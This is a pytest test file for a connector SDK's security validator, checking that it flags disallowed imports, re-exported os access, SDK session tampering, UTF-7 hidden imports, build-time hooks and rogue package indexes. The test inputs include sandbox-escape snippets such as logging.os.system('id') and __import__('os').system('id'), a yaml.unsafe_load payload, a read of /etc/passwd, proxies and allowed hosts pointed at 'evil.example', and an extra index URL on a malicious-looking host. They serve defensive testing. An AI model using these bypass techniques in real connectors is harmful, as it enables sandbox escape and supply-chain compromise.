"""The strict profile as an allowlist, the reachability table, and parsing what Python executes."""

from __future__ import annotations

from pathlib import Path

import pytest
from validate_fixture import CONNECTOR_FILES

from cdk.validators import reach
from cdk.validators.engine import validate_code, validate_project
from cdk.validators.policy import load_policy

SOURCE = CONNECTOR_FILES["demo_connector/source.py"]
PYPROJECT = CONNECTOR_FILES["pyproject.toml"]


def rules_at(report) -> list[tuple[str, str, int]]:
    return sorted((f.rule, f.file, f.line) for f in report.findings if f.suite == "security")


def codes(code: str) -> list[tuple[str, int]]:
    return sorted((f.rule, f.line) for f in validate_code(code).findings if f.suite == "security")


# --- reachability table ---------------------------------------------------------------------------
def test_shipped_reachability_table_equals_a_fresh_computation() -> None:
    shipped = reach.load_table()
    fresh = reach.compute(reach.allowed_modules())
    if shipped["python"] != fresh["python"]:
        pytest.skip(f"the shipped table is for Python {shipped['python']}; regenerate it on this one")
    same_versions = [
        m for m, v in fresh["modules"].items() if shipped["modules"].get(m, {}).get("version") == v["version"]
    ]
    assert len(same_versions) >= 50  # the whole standard library part at least
    for module in same_versions:
        assert shipped["modules"][module] == fresh["modules"][module], (
            f"{module}: the table differs from the interpreter; run `python -m cdk.validators.reach`"
        )
    stdlib = sorted(m for m, v in fresh["modules"].items() if v["version"].startswith("python "))
    assert stdlib == sorted(m for m, v in shipped["modules"].items() if v["version"].startswith("python "))


def test_table_knows_the_classic_reexports() -> None:
    mods = reach.load_table()["modules"]
    assert mods["logging"]["exposes"]["os"] == "module os"
    assert mods["random"]["exposes"]["_os"] == "module os"
    assert mods["io"]["exposes"]["open"] == "builtins.open"
    assert "file" in mods["logging"]["effects"]["FileHandler"]
    assert "code" in mods["typing"]["effects"]["get_type_hints"]


def test_every_explicitly_allowed_attribute_does_no_process_or_network_work() -> None:
    data = reach.load_table()["modules"]
    for module, attrs in reach.allowed_modules().items():
        if attrs == "*" or module not in data:
            continue
        for attr in attrs:
            effects = set(data[module]["effects"].get(attr, []))
            assert not effects & {"process", "network"}, (module, attr, effects)


# --- the allowlist ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import logging\nlogging.os.system('id')\n", [("S015", 2)]),
        ("from logging import os\n", [("S015", 1)]),
        ("import typing\nmods = typing.sys.modules\n", [("S015", 2)]),
        ("import random\nrandom._os.system('id')\n", [("S015", 2)]),
        ("import urllib.parse\nurllib.request.urlopen('http://x')\n", [("S001", 2)]),
        ("import json\njson.decoder.scanstring\n", [("S015", 2)]),
        ("from cdk.sdk.http import requests\n", [("S016", 1)]),
        ("import cdk\ncdk.fsutil.atomic_write_bytes('/x', b'')\n", [("S016", 2)]),
        ("from cdk import Project\n", [("S016", 1)]),
        ("from cdk import ConnectorSession\n", [("S016", 1)]),
        ("import _io\n", [("S001", 1)]),
        ("import posix\n", [("S001", 1)]),
        ("import pydoc\n", [("S001", 1)]),
        ("import yaml\nyaml.unsafe_load('!!python/object:os.system')\n", [("S015", 2)]),
        ("from pydantic import ImportString\n", [("S015", 1)]),
        ("import typing\ntyping.get_type_hints(object)\n", [("S015", 2)]),
        ("import logging\nlogging.basicConfig(filename='/tmp/x')\n", [("S015", 2)]),
        ("import gzip\ngzip.GzipFile('/etc/passwd')\n", [("S015", 2)]),
        ("g = getattr\n", [("S006", 1)]),
        ("import functools\nfunctools.reduce(getattr, ['a'], object)\n", [("S006", 2)]),
        ("import operator\noperator.attrgetter('x')\n", [("S015", 2)]),
        ("import logging\n'{0.os.environ}'.format(logging)\n", [("S005", 2)]),
        ("x: \"__import__('os').system('id')\" = 1\n", [("S002", 1)]),
    ],
)
def test_strict_allowlist_catches(code: str, expected: list[tuple[str, int]]) -> None:
    assert codes(code) == expected


@pytest.mark.parametrize(
    "code",
    [
        "import io\nimport csv\nrows = list(csv.reader(io.StringIO('a,b')))\n",
        "from http import HTTPStatus\nok = HTTPStatus.OK\n",
        "class S:\n    def run(self, kind):\n        return getattr(self, 'parse_' + kind)()\n",
        "from requests.auth import AuthBase\n\n\nclass A(AuthBase):\n    pass\n",
        "import logging\nlog = logging.getLogger(__name__)\nlog.info('x')\n",
        "from cdk.errors import AuthenticationError\n",
        "from datetime import datetime, timezone\nnow = datetime.now(timezone.utc)\n",
    ],
)
def test_strict_allowlist_lets_legitimate_code_through(code: str) -> None:
    assert codes(code) == []


def test_requests_auth_is_allowed_but_not_requests() -> None:
    assert codes("import requests\n") == [("S001", 1)]
    assert codes("from requests.auth import HTTPBasicAuth\n") == []


# --- SDK tampering ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "code",
    [
        "class S:\n    def get(self):\n        self.session.allowed_hosts.append('evil.example')\n",
        "class S:\n    def get(self):\n        self.session.proxies = {'https': 'http://evil'}\n",
        "class S:\n    def get(self):\n        self.session.mount('https://', object())\n",
        "class S:\n    def get(self):\n        self.session.get_adapter('https://x').send\n",
        "class S:\n    def get(self):\n        self.session.send = print\n",
        "class S:\n    def send(self, r):\n        return super().send(r)\n",
        "from cdk import AbstractSource\nAbstractSource.check_connection = lambda self: (True, None)\n",
        "class S:\n    def get(self):\n        type(self.session).request = print\n",
    ],
)
def test_sdk_tampering_is_s017(code: str) -> None:
    assert [r for r, _ in codes(code)] == ["S017"]


def test_session_headers_may_be_set() -> None:
    assert codes("class S:\n    def get(self):\n        self.session.headers['X-Version'] = '2'\n") == []


# --- waivers ----------------------------------------------------------------------------------------
def test_s006_cannot_be_waived_even_if_an_organisation_lists_it(tmp_path: Path, make_connector) -> None:
    org = tmp_path / "org.toml"
    org.write_text('waivable = ["S006", "E001"]\n')
    policy = load_policy(org)
    assert "S006" not in policy.waivable and "E001" in policy.waivable
    source = SOURCE + "\n\ndef call(obj, name):\n    return getattr(obj, name)  # cdk: ignore[S006]\n"
    report = validate_project(make_connector(files={"demo_connector/source.py": source}), policy)
    assert [f.rule for f in report.findings if f.rule in ("S006", "L001")] == ["L001", "S006"] or sorted(
        f.rule for f in report.findings if f.rule in ("S006", "L001")
    ) == ["L001", "S006"]


def test_control_character_does_not_shift_an_inline_ignore(make_connector) -> None:
    # \x1c splits lines for str.splitlines() but not for Python: the ignore on line N must not cover line N+1
    source = SOURCE + "\n\nDOCS = 'x'  # \x1c cdk: ignore[E001]\nLINK = 'https://docs.elsewhere.example/a'\n"
    report = validate_project(make_connector(files={"demo_connector/source.py": source}))
    assert [f.rule for f in report.findings if f.rule == "E001"] == ["E001"]
    assert "S018" in {f.rule for f in report.findings}


# --- what Python executes -----------------------------------------------------------------------------
def test_tests_conftest_and_shipped_build_package_are_checked(make_connector) -> None:
    root = make_connector(
        files={
            "tests/conftest.py": "import os\n",
            "build/__init__.py": "import subprocess\n",
            "venv/pyvenv.cfg": "home = /usr/bin\n",
            "venv/lib/site.py": "import os\n",
            "dist/notes.py": "import os\n",
        }
    )
    found = rules_at(validate_project(root))
    assert ("S001", "tests/conftest.py", 1) in found
    assert ("S013", "build/__init__.py", 1) in found
    assert not [f for f in found if f[1].startswith(("venv/", "dist/"))]


def test_compiled_files_are_refused(make_connector) -> None:
    root = make_connector()
    (root / "demo_connector" / "helpers.pyc").write_bytes(b"\x00\x01")
    assert ("S019", "demo_connector/helpers.pyc", 1) in rules_at(validate_project(root))


def test_utf7_cookie_is_refused_and_the_hidden_import_found(make_connector) -> None:
    root = make_connector()
    hidden = "# -*- coding: utf-7 -*-\n# +AAo-import os\n"
    (root / "demo_connector" / "hidden.py").write_bytes(hidden.encode("ascii"))
    found = rules_at(validate_project(root))
    assert ("S018", "demo_connector/hidden.py", 1) in found
    assert ("S001", "demo_connector/hidden.py", 3) in found  # +AAo- is a newline in UTF-7: line 3 for Python


def test_latin1_cookie_and_bom_are_clean(make_connector) -> None:
    root = make_connector()
    (root / "demo_connector" / "latin.py").write_bytes(b"# -*- coding: latin-1 -*-\nNAME = '\xe9t\xe9'\n")
    (root / "demo_connector" / "bom.py").write_bytes(b"\xef\xbb\xbfNAME = 'x'\n")
    found = [f for f in validate_project(root).findings if f.file.endswith(("latin.py", "bom.py"))]
    assert found == []


def test_reexport_through_a_sibling_module_is_resolved(make_connector) -> None:
    root = make_connector(
        files={
            "demo_connector/helpers.py": "import logging as lg\n",
            "demo_connector/use.py": "from .helpers import lg\nlg.os.system('id')\n",
        }
    )
    found = rules_at(validate_project(root))
    assert ("S015", "demo_connector/use.py", 2) in found


# --- packaging: nothing runs at build, install or interpreter start -----------------------------------
def _packaging(report) -> list[tuple[str, str]]:
    return sorted(
        (f.rule, f.file) for f in report.findings if f.rule in ("P009", "P010", "P011", "P012", "D008")
    )


def test_default_connector_has_no_build_time_findings(make_connector) -> None:
    assert _packaging(validate_project(make_connector())) == []


@pytest.mark.parametrize(
    ("edit", "files", "expected"),
    [
        (
            ('build-backend = "hatchling.build"', 'build-backend = "backend"\nbackend-path = ["."]'),
            {},
            [("P009", "pyproject.toml")],
        ),
        (
            ('build-backend = "hatchling.build"', 'build-backend = "maturin"'),
            {},
            [("P009", "pyproject.toml")],
        ),
        (None, {"hatch_build.py": "print(1)\n"}, [("P010", "hatch_build.py")]),
        (None, {"setup.py": "print(1)\n"}, [("P010", "setup.py")]),
        (
            ("[project]", '[tool.hatch.build.hooks.custom]\npath = "x.py"\n\n[project]'),
            {},
            [("P010", "pyproject.toml")],
        ),
        (None, {"demo_connector/boot.pth": "import os\n"}, [("P011", "demo_connector/boot.pth")]),
        (
            ("[project]", '[project.scripts]\npip = "demo_connector.source:main"\n\n[project]'),
            {},
            [("P012", "pyproject.toml")],
        ),
        (
            ("[project]", '[project.entry-points.pytest11]\nx = "demo_connector.source"\n\n[project]'),
            {},
            [("P012", "pyproject.toml")],
        ),
        (
            None,
            {"requirements.txt": "--extra-index-url https://pypi.evil.example/simple\nrequests>=2.31,<3\n"},
            [("D008", "requirements.txt")],
        ),
        (
            None,
            {"requirements-dev.txt": "-i https://pypi.evil.example/simple\n"},
            [("D008", "requirements-dev.txt")],
        ),
    ],
)
def test_build_and_install_time_code_is_refused(make_connector, edit, files, expected) -> None:
    pyproject = PYPROJECT
    if edit:
        assert edit[0] in pyproject
        pyproject = pyproject.replace(edit[0], edit[1], 1)
    root = make_connector(files={"pyproject.toml": pyproject, **files})
    report = validate_project(root)
    assert _packaging(report) == expected
    assert all(f.severity == "error" for f in report.findings if f.rule in dict(expected))


def test_packaging_rules_cannot_be_waived(make_connector) -> None:
    pyproject = PYPROJECT + '\n[tool.cdk.validate]\nwaive = ["P011"]\n'
    root = make_connector(files={"pyproject.toml": pyproject, "demo_connector/boot.pth": "import os\n"})
    report = validate_project(root)
    assert ("P011", "demo_connector/boot.pth") in _packaging(report)
    assert any(f.rule == "L002" and "never be waived" in f.message for f in report.findings)


def test_connector_tests_may_use_pytest_and_read_their_fixtures(make_connector) -> None:
    test = (
        "import json\nfrom pathlib import Path\n\nimport pytest\n\n\n@pytest.fixture\ndef page():\n"
        "    return json.loads((Path(__file__).parent / 'page.json').read_text())\n"
    )
    root = make_connector(
        files={"tests/test_pages.py": test, "demo_connector/util.py": "from pathlib import Path\n"}
    )
    found = rules_at(validate_project(root))
    assert [f for f in found if f[1] == "tests/test_pages.py"] == []
    assert ("S014", "demo_connector/util.py", 1) in found  # the connector's own code still may not
